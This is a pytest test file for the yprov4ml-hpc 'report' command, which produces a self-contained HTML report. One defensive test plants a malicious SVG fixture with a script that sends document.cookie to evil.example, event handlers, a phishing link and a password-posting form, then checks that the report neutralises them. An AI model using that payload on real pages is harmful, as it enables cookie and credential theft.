"""`yprov4ml-hpc report`: one self-contained HTML file; graph.svg embedded or a drawn fallback."""

from __future__ import annotations

import base64
import os
import re
import shutil
from html.parser import HTMLParser
from pathlib import Path

import pytest
from _runfactory import assert_user_error, cli, shared_run

PNG_MAGIC = b"\x89PNG\r\n\x1a\n"


def _report(run_dir: Path, out: Path, *args: str, env: dict[str, str] | None = None) -> str:
    proc = cli("report", str(run_dir), "-o", str(out), *args, env=env)
    assert proc.returncode == 0, proc.stderr
    path = out / "report.html" if out.is_dir() else out
    assert str(path) in proc.stdout
    return path.read_text(encoding="utf-8")


def _assert_self_contained(html: str) -> None:
    # Nothing to fetch: no external src/href, images are data: URIs (xmlns is a name, not a fetch).
    assert not re.search(r'(src|href)="(?!data:|#)', html)
    assert "<link" not in html and "<script" not in html
    assert "default-src 'none'" in html


def test_report_of_an_eight_rank_run(tmp_path: Path) -> None:
    pytest.importorskip("matplotlib")
    html = _report(shared_run("eight"), tmp_path)  # -o a folder: report.html inside
    _assert_self_contained(html)
    table = html.split('id="rank-table"')[1].split("</table>")[0]
    assert table.count("<tr>") == 9  # header + 8 ranks
    assert "straggler: median step interval" in table
    images = re.findall(r'src="data:image/png;base64,([^"]+)"', html)
    assert len(images) == 6
    assert all(base64.b64decode(data)[:8] == PNG_MAGIC for data in images)
    for section in ("overview", "ranks", "params", "metrics", "figures", "provenance", "energy", "artifacts"):
        assert f'<section id="{section}">' in html
    assert 'class="prov-tree"' in html  # no graph.svg in the run: the drawn fallback
    assert "seed" in html and "differs across ranks" in html


def test_report_default_output_and_no_figures(tmp_path: Path) -> None:
    run_dir = tmp_path / "run"
    shutil.copytree(shared_run("crash"), run_dir)
    proc = cli("report", str(run_dir), "--no-figures")
    assert proc.returncode == 0, proc.stderr
    html = (run_dir / "report.html").read_text(encoding="utf-8")
    assert "0 figures" in proc.stdout and "data:image/png" not in html
    assert "computed from the rank files" in html and "incomplete" in html
    assert not (run_dir / "summary.json").exists()


def _graph_image(html: str) -> bytes:
    pattern = r'<img class="graph-image"[^>]* src="data:image/svg\+xml;base64,([A-Za-z0-9+/=]+)"'
    (data,) = re.findall(pattern, html)
    return base64.b64decode(data)


def test_report_embeds_graph_svg(tmp_path: Path) -> None:
    run_dir = tmp_path / "run"
    shutil.copytree(shared_run("one"), run_dir)
    svg = (
        '<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x.dtd">\n'
        '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><g id="graphviz-graph"/></svg>\n'
    )
    (run_dir / "graph.svg").write_text(svg)
    html = _report(run_dir, tmp_path / "r.html", "--no-figures")
    assert _graph_image(html) == svg.encode()  # the file, as a picture
    assert 'id="graphviz-graph"' not in html  # not as markup of the page
    assert 'class="prov-tree"' not in html
    _assert_self_contained(html)


class _Markup(HTMLParser):
    """Every tag and attribute of a page, as a browser's tokenizer sees them."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


# Tags that run, submit, embed or fetch.  <a> stays allowed: the page's own navigation, whose
# every href is checked below to be "#section".
ACTIVE_TAGS = {"script", "form", "iframe", "object", "embed", "link", "base", "foreignobject", "input"}


def test_a_planted_graph_svg_brings_no_active_markup(tmp_path: Path) -> None:
    """A graph.svg written by someone else: script, event handlers, remote links and images,
    a form.  The report shows it as a picture only and stays self-contained."""
    run_dir = tmp_path / "run"
    shutil.copytree(shared_run("one"), run_dir)
    (run_dir / "graph.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        'onload="alert(1)" width="100" height="100">'
        "<script>fetch('https://evil.example/steal?c='+document.cookie)</script>"
        '<a xlink:href="https://evil.example/phish"><text y="20">click</text></a>'
        '<image href="https://evil.example/track.png" width="1" height="1"/>'
        '<foreignObject width="100" height="100"><form action="https://evil.example/post" method="post">'
        '<input name="password"/><button onclick="steal()">log in</button></form></foreignObject>'
        '<rect width="10" height="10" onmouseover="alert(2)"/></svg>'
    )
    html = _report(run_dir, tmp_path / "r.html", "--no-figures")
    assert b"<script>" in _graph_image(html)  # it is there, but only inside the picture
    parser = _Markup()
    parser.feed(html)
    names = {tag for tag, _ in parser.tags}
    assert not names & ACTIVE_TAGS, names & ACTIVE_TAGS
    metas = [dict(attrs) for tag, attrs in parser.tags if tag == "meta"]
    assert all(m.get("http-equiv") in (None, "Content-Security-Policy") for m in metas)  # no refresh
    for tag, attrs in parser.tags:
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name, value)
            if name in ("src", "href", "action", "xlink:href", "formaction"):
                assert (value or "").startswith(("data:image/", "#")), (tag, name, value)
    lowered = html.lower()
    for needle in ("evil.example", "onload", "onclick", "onmouseover", "<script", "<form", "alert("):
        assert needle not in lowered, needle
    _assert_self_contained(html)


def test_a_graph_svg_link_is_not_followed(tmp_path: Path) -> None:
    run_dir = tmp_path / "run"
    shutil.copytree(shared_run("one"), run_dir)
    secret = tmp_path / "secret.svg"
    secret.write_text('<svg xmlns="http://www.w3.org/2000/svg"><text>SECRET-TOKEN</text></svg>')
    (run_dir / "graph.svg").symlink_to(secret)
    html = _report(run_dir, tmp_path / "r.html", "--no-figures")
    assert "graph-image" not in html and 'class="prov-tree"' in html  # the drawn fallback


def test_report_without_matplotlib_still_writes_the_page(tmp_path: Path) -> None:
    site = tmp_path / "site"
    site.mkdir()
    (site / "sitecustomize.py").write_text("import sys; sys.modules['matplotlib'] = None\n")
    env = {"PYTHONPATH": os.pathsep.join([str(site), str(Path(__file__).resolve().parents[2])])}
    proc = cli("report", str(shared_run("one")), "-o", str(tmp_path / "r.html"), env=env)
    assert proc.returncode == 0, proc.stderr
    assert 'pip install "yprov4ml-hpc[plot]"' in proc.stderr and "Traceback" not in proc.stderr
    html = (tmp_path / "r.html").read_text(encoding="utf-8")
    assert "No figures" in html and 'id="rank-table"' in html


def test_report_errors_are_one_line(tmp_path: Path) -> None:
    assert_user_error(cli("report", str(tmp_path / "missing")), "no such directory")
    assert_user_error(cli("report", str(tmp_path)), "not a yprov4ml_hpc run directory")
    damaged = tmp_path / "damaged"
    (damaged / "ranks").mkdir(parents=True)
    (damaged / "ranks" / "rank_000000.h5").write_bytes(b"garbage")
    assert_user_error(cli("report", str(damaged)), "no readable rank file")
    run_dir = tmp_path / "run"
    shutil.copytree(shared_run("one"), run_dir)
    (run_dir / "summary.json").write_text("[1, 2")
    assert_user_error(cli("report", str(run_dir), "--no-figures"), "summary.json")
